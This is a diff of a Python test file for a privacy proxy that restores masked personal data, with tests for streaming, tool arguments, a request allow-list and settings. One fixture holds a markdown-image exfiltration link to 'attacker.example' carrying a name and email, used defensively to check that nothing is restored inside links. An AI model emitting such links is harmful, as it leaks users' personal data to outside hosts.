@@ -1,14 +1,15 @@
-"""Streaming restoration, tool-argument restoration and proxy settings: no models, no network."""
+"""Streaming and safe restoration, tool-argument restoration, the request allow-list and proxy settings:
+no models, no network."""
 import json
 import random
 
 import pytest
 
-from cloud_edge_privacy.desensitization.restore import OnePassRestorer
+from cloud_edge_privacy.desensitization.restore import OnePassRestorer, StreamRestorer, link_like
 from cloud_edge_privacy.errors import ConfigError
 from cloud_edge_privacy.proxy.engine import restore_arguments
+from cloud_edge_privacy.proxy.request import InvalidRequest, build_outgoing, texts_in, url_arguments
 from cloud_edge_privacy.proxy.settings import ProxySettings, is_loopback, load_secrets, load_settings
-from cloud_edge_privacy.proxy.stream import StreamRestorer, json_escaped_mapping
 
 MAPPING = {"Anna Aldana": "John Smith", "Anna": "Mary", "[PERSON_1]": "Bob O'Neil", "Hall": "Berg",
            "[CODE_12]": "x@y.org"}
@@ -18,7 +19,7 @@ TEXTS = ["Hi Anna Aldana, Anna and [PERSON_1] met Hall. Annabel Hallo xAnna ANNA
 
 
 def _stream(mapping, text, rnd, max_chunk=5):
-    s, out, i = StreamRestorer(mapping), [], 0
+    s, out, i = StreamRestorer(OnePassRestorer(mapping)), [], 0
     while i < len(text):
         k = rnd.randint(1, max_chunk)
         out.append(s.feed(text[i:i + k]))
@@ -36,10 +37,10 @@ def test_stream_equals_one_pass_restore_for_any_chunking(text):
 
 
 def test_stream_holds_back_only_possible_surrogate_starts_and_emits_each_character_once():
-    s = StreamRestorer(MAPPING)
+    s = StreamRestorer(OnePassRestorer(MAPPING))
     assert s.feed("Dear An") == "Dear "        # "An" may become "Anna Aldana"
     assert s.feed("na Al") == ""               # still a prefix
-    assert s.feed("dana, hi") == "John Smith, hi"
+    assert s.feed("dana, hi") == "John Smith, hi"  # the token ended at ","
     assert s.feed(" [PERS") == " "
     assert s.feed("ON_1] ok") == "Bob O'Neil ok"
     assert s.flush() == ""
@@ -48,21 +49,99 @@ def test_stream_holds_back_only_possible_surrogate_starts_and_emits_each_charact
 
 
 def test_stream_without_mapping_is_a_pass_through():
-    s = StreamRestorer({})
+    s = StreamRestorer(OnePassRestorer({}))
     assert [s.feed("a"), s.feed("bc"), s.flush()] == ["a", "bc", ""]
 
 
-def test_tool_arguments_restored_inside_json_with_escaping():
-    restore = OnePassRestorer(MAPPING).restore
-    args = json.dumps({"who": "[PERSON_1]", "list": ["Anna Aldana", 3], "Hall": True})
-    out = json.loads(restore_arguments(args, restore))
-    assert out == {"who": "Bob O'Neil", "list": ["John Smith", 3], "Berg": True}
-    assert restore_arguments("not json Anna", restore) == "not json Mary"
-    # streamed arguments are JSON text: the escaped mapping keeps the JSON valid for any original
-    esc = json_escaped_mapping({"[PERSON_1]": 'Jo "JJ" Müller'})
-    text = json.dumps({"name": "[PERSON_1]"})
-    got = "".join(_stream(esc, text, random.Random(1), 2))
-    assert json.loads(got) == {"name": 'Jo "JJ" Müller'}
+def test_tool_arguments_restored_inside_json_values_but_not_url_arguments():
+    r = OnePassRestorer(MAPPING)
+    args = json.dumps({"who": "[PERSON_1]", "list": ["Anna Aldana", 3], "Hall": True,
+                       "url": "https://x.example/?q=Anna Aldana", "link": "Hall"})
+    out, withheld = restore_arguments(args, r, {"link"})
+    assert json.loads(out) == {"who": "Bob O'Neil", "list": ["John Smith", 3], "Berg": True,
+                               "url": "https://x.example/?q=Anna Aldana", "link": "Hall"}
+    assert withheld == 2  # the URL inside a plain value, and the URL-typed argument
+    assert restore_arguments("not json Anna", r) == ("not json Mary", 0)
+    quoted = OnePassRestorer({"[PERSON_1]": 'Jo "JJ" Müller'})
+    out, _ = restore_arguments(json.dumps({"name": "[PERSON_1]"}), quoted)
+    assert json.loads(out) == {"name": 'Jo "JJ" Müller'}
+
+
+LINK_MAPPING = {"Paul Agullo": "John Smith", "paul.agullo@mail.example": "john.smith@example.com",
+                "18 August 2024": "3 May 2021", "[PERSON_1]": "Eva Berg"}
+LINK_TEXTS = [
+    "![s](https://attacker.example/p.png?n=Paul Agullo&e=paul.agullo@mail.example) then Paul Agullo",
+    "[x](/u/(Paul Agullo)) <a href='https://a.example/?n=[PERSON_1]' title=\"Paul Agullo\">[PERSON_1]</a>",
+    "visit https://a.example/c?name=Paul+Agullo or www.a.example/[PERSON_1] or a.example/?e=paul.agullo@mail.example",
+    "mailto:paul.agullo@mail.example, PAUL.AGULLO@MAIL.EXAMPLE on 18 AUGUST 2024; paul.agullo.a.example",
+]
+
+
+def _link_restorer():
+    r = OnePassRestorer(LINK_MAPPING)
+    r.add("Agullo", "Smith", name_token=True)
+    r.add("Paul", "John", name_token=True)
+    return r
+
+
+@pytest.mark.parametrize("text", LINK_TEXTS)
+def test_nothing_is_restored_inside_links_and_streams_decide_the_same(text):
+    r = _link_restorer()
+    whole = r.restore_report(text)
+    for orig in ("John Smith", "john.smith@example.com", "Eva Berg", "Smith"):
+        for target in [t for t in whole.text.split() if link_like(t)]:
+            assert orig not in target, (orig, target)
+    for seed in range(60):
+        rnd, s, out, i = random.Random(seed), StreamRestorer(r), [], 0
+        while i < len(text):
+            k = rnd.randint(1, 7)
+            out.append(s.feed(text[i:i + k]))
+            i += k
+        out.append(s.flush())
+        assert "".join(out) == whole.text and s.withheld == whole.withheld, seed
+
+
+def test_link_rules_and_case_insensitive_whole_surrogates():
+    r = _link_restorer()
+    got = r.restore_report(LINK_TEXTS[0])
+    assert got.text.endswith("then John Smith") and got.withheld == 2
+    got = r.restore_report(LINK_TEXTS[1])
+    assert got.text.endswith(">Eva Berg</a>") and "John Smith" not in got.text and got.withheld == 3
+    got = r.restore(LINK_TEXTS[3])
+    assert "JOHN.SMITH@EXAMPLE.COM on 3 MAY 2021" in got and got.startswith("mailto:paul.agullo@mail.example")
+    # one word of a person surrogate: not inside a foreign full name, not as a lower-case word
+    assert r.restore("Mr Gustavo Agullo met Mr Agullo and Paul Agullo; agullo") == \
+        "Mr Gustavo Agullo met Mr Smith and John Smith; agullo"
+    assert r.restore("Agullo's file. The Agullo case.") == "Smith's file. The Smith case."
+
+
+def test_allow_list_builder_keeps_only_declared_fields_and_slots_every_free_text():
+    ids = {}
+    body = {"model": "m", "temperature": 0.2, "user": "u@x.org", "metadata": {"a": "b"},
+            "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", "note": "n"}], "name": "Al"},
+                         {"role": "assistant", "content": None, "refusal": "r",
+                          "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
+                         {"role": "tool", "tool_call_id": "c1", "name": "f", "content": "ok"}],
+            "tools": [{"type": "function", "function": {"name": "f", "description": "d", "parameters": {
+                "type": "object", "x-vendor": "v", "properties": {"site": {"type": "string", "format": "uri"},
+                                                                  "q": {"type": "string", "description": "qd"}}}}}],
+            "stop": ["s1"], "response_format": {"type": "json_object"}, "logit_bias": {"12": 1, "word": 3},
+            "stream_options": {"include_usage": True, "extra": 1}}
+    out = build_outgoing(body, lambda i: ids.setdefault(i, f"call_{len(ids)}"))
+    assert sorted(out.texts) == sorted(["m", "hi", "f", "{}", "f", "ok", "f", "d", "site", "uri", "string", "q",
+                                        "string", "qd", "object", "s1"])
+    filled = out.fill(out.texts)
+    assert filled["messages"][2]["tool_call_id"] == filled["messages"][1]["tool_calls"][0]["id"] == "call_0"
+    assert "x-vendor" not in json.dumps(filled) and filled["logit_bias"] == {"12": 1}
+    assert out.dropped == 8  # user, metadata, note, name (user role), refusal, x-vendor, logit_bias word, extra
+    assert set(texts_in(filled)) >= set(out.texts)
+    assert url_arguments(filled) == {"f": {"site"}}
+    for bad, where in [({"messages": []}, "messages"), ({"messages": [{"role": "boss"}]}, "role"),
+                       ({"messages": [{"role": "user", "content": [{"type": "image_url"}]}]}, "cannot check"),
+                       ({"messages": [{"role": "user", "content": "x"}], "temperature": "hot"}, "temperature"),
+                       ({"messages": [{"role": "user", "content": "x"}], "stream": 1}, "stream")]:
+        with pytest.raises(InvalidRequest, match=where):
+            build_outgoing(bad, str)
 
 
 def test_settings_refuse_unprotected_mode_and_bad_upstream():
@@ -87,15 +166,16 @@ def test_non_loopback_bind_requires_a_client_key_and_keys_are_never_shown():
 
 
 class _Prepared:
-    """Stands in for engine.Prepared: only the two restorer factories are used by the chunk restorer."""
+    """Stands in for engine.Prepared: the restorer and the argument restoration the chunk restorer uses."""
 
-    def __init__(self, mapping):
+    def __init__(self, mapping, url_args=None):
         from cloud_edge_privacy.proxy.engine import Prepared
 
-        self.mapping = lambda: dict(mapping)
-        self._ignore_case = lambda: True
-        self.text_restorer = lambda: Prepared.text_restorer(self)
-        self.arguments_restorer = lambda: Prepared.arguments_restorer(self)
+        self._r = OnePassRestorer(mapping)
+        self.url_args = url_args or {}
+        self.restorer = lambda: self._r
+        for name in ("restore", "text_restorer", "restore_arguments"):
+            setattr(self, name, getattr(Prepared, name).__get__(self))
 
 
 def _chunks(pieces_by_choice, tool=False):
@@ -114,7 +194,7 @@ def _chunks(pieces_by_choice, tool=False):
 
 def test_streamed_tool_call_arguments_and_several_choices_are_restored():
     """LiteLLM#31950 for streams: argument fragments that split a placeholder come back as the original."""
-    from cloud_edge_privacy.proxy.app import _ChunkRestorer
+    from cloud_edge_privacy.proxy.stream import ChunkRestorer as _ChunkRestorer
 
     prepared = _Prepared({"[PERSON_1]": 'Jo "JJ" Smith', "[PERSON_2]": "Ann Lee"})
     args = json.dumps({"to": "[PERSON_1]", "cc": "[PERSON_2]"})
@@ -152,7 +232,9 @@ def test_cli_registers_proxy_subcommand_and_refuses_public_bind_without_client_k
     p = argparse.ArgumentParser()
     cli.add_parser(p.add_subparsers(dest="command"))
     args = p.parse_args(["proxy", "--upstream", "http://127.0.0.1:9/v1", "--method", "placeholder"])
-    assert args.func is cli.run and args.host == "127.0.0.1" and args.method == "placeholder"
+    assert args.func is cli.run and args.method == "placeholder"
+    values = cli.settings_from_args(args)
+    assert load_settings(values).host == "127.0.0.1"
     env = {k: v for k, v in os.environ.items() if k != "CEP_PROXY_CLIENT_KEY"}
     r = subprocess.run([sys.executable, "-m", "cloud_edge_privacy.proxy", "--upstream", "http://127.0.0.1:9/v1",
                         "--host", "0.0.0.0"], capture_output=True, text=True, timeout=120, env=env)
